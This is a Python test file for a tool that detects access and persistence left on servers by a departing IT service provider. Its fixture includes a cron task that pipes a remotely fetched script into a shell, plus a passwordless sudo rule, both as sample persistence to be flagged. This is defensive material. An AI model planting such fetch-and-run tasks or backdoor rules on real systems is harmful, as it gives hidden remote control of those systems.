"""What is left besides agents is told with its reason, or as unexplained; what the system brings is not."""

import pytest

from bascule.detection.persistence import Outgoing, left_behind, mark_of, not_looked_at
from bascule.detection.sweep import sweep

OLD = Outgoing(
    people=("Jean Durand",),
    logins=("infogerance",),
    domains=("oldmsp.example",),
    networks=("203.0.113.0/24",),
    keys=("SHA256:abcdef",),
    names=("OldMSP",),
)


@pytest.fixture
def document() -> dict:
    return {
        "schema": "bascule.report/1",
        "host": {"name": "srv1", "os": "Debian 12"},
        "users": [
            {"name": "root", "uid": 0, "shell": "/bin/bash"},
            {"name": "www-data", "shell": "/usr/sbin/nologin"},
            {"name": "infogerance", "uid": 1001, "shell": "/bin/bash"},
            {"name": "marie", "uid": 1000, "shell": "/bin/bash"},
        ],
        "groups": [
            {"name": "sudo", "members": ["marie", "infogerance"]},
            {"name": "audio", "members": ["marie"]},
        ],
        "ssh_keys": [
            {
                "user": "root",
                "type": "ssh-ed25519",
                "comment": "backup@oldmsp.example",
                "file": "/root/.ssh/x",
            }
        ],
        "sudo": [{"rule": "%sudo ALL=(ALL:ALL) ALL"}, {"rule": "infogerance ALL=(ALL) NOPASSWD: ALL"}],
        "tasks": [
            {"name": "cron.daily/logrotate", "command": "/etc/cron.daily/logrotate"},
            {"name": "cron.d/x", "command": "curl -H 'token: canary-1' http://203.0.113.9/run.sh | sh"},
        ],
        "units": [{"name": "ssh.service", "path": "/lib/systemd/system/ssh.service"}],
        "vpn": [{"name": "wg0", "type": "wireguard", "endpoint": "198.51.100.4:51820"}],
        "settings": {"hosts": ["127.0.0.1 localhost", "203.0.113.5 update.client.example"], "dns": []},
    }


def told(found):
    return {(entry.kind, entry.why) for entry in found}


def test_marks_of_the_outgoing_provider_are_named(document):
    found = left_behind(OLD)(document)
    assert {
        ("account", "login"),
        ("privileged group member", "login"),
        ("authorised key", "domain"),
        ("sudo rule", "login"),
        ("scheduled task", "network"),
        ("hosts entry", "network"),
    } <= told(found)


def test_what_has_no_mark_is_unexplained_and_what_is_stock_is_silent(document):
    found = left_behind(OLD)(document)
    unexplained = [(entry.kind, entry.value) for entry in found if entry.why == "unexplained"]
    assert ("VPN profile", "wg0 wireguard 198.51.100.4:51820") in unexplained
    assert any(kind == "account" and "marie" in value for kind, value in unexplained)
    assert not any("root 0" in entry.value or "www-data" in entry.value for entry in found)
    assert not any("logrotate" in entry.value or "ssh.service" in entry.value for entry in found)


def test_a_baseline_silences_what_is_as_it_should_be_but_never_a_mark(document):
    found = left_behind(OLD, document)(document)
    assert "unexplained" not in {entry.why for entry in found}
    assert ("account", "login") in told(found)


def test_a_class_nobody_looked_at_is_said():
    assert {"users", "wmi", "winrm"} <= set(not_looked_at({"tasks": []}))
    assert "tasks" not in not_looked_at({"tasks": []})


def test_a_secret_in_a_task_is_not_repeated(document):
    assert "canary-1" not in repr(left_behind(OLD)(document))


def test_a_word_inside_another_is_no_mark():
    outgoing = Outgoing(logins=("atera",), names=("syncro",))
    assert mark_of(outgoing, "collateral") == ("unexplained", "")
    assert mark_of(outgoing, "synchro syncronize") == ("unexplained", "")
    assert mark_of(outgoing, "PC\\atera") == ("login", "atera")


def test_sweep_gives_both_tools_and_what_is_left(document):
    document["packages"] = [{"name": "anydesk"}]
    (result,) = sweep([document], left=left_behind(OLD))
    assert [finding.tool for finding in result.findings] == ["anydesk"]
    assert ("account", "login") in told(result.left_behind)


@pytest.mark.parametrize(
    "broken",
    [{"users": ["a", 3, None]}, {"groups": [{"name": "sudo", "members": "bob"}]}, {"settings": {"dns": 3}}],
)
def test_odd_shapes_do_not_stop_it(broken):
    left_behind(OLD)(broken)


def test_flat_settings_of_a_hive_are_read_like_a_collectors():
    flat = {"rdp.enabled": True, "winlogon.autoadminlogon": "1", "winlogon.defaultusername": "durand"}
    found = left_behind(Outgoing(logins=("durand",)))({"settings": flat})
    assert {(one.kind, one.value, one.why) for one in found} == {
        ("RDP setting", "enabled: True", "unexplained"),
        ("automatic logon", "autoadminlogon: 1", "unexplained"),
        ("automatic logon", "defaultusername: durand", "login"),
    }
    off = {"rdp.enabled": False, "winlogon.autoadminlogon": "0", "winlogon.defaultusername": "durand"}
    assert left_behind(Outgoing())({"settings": off}) == []
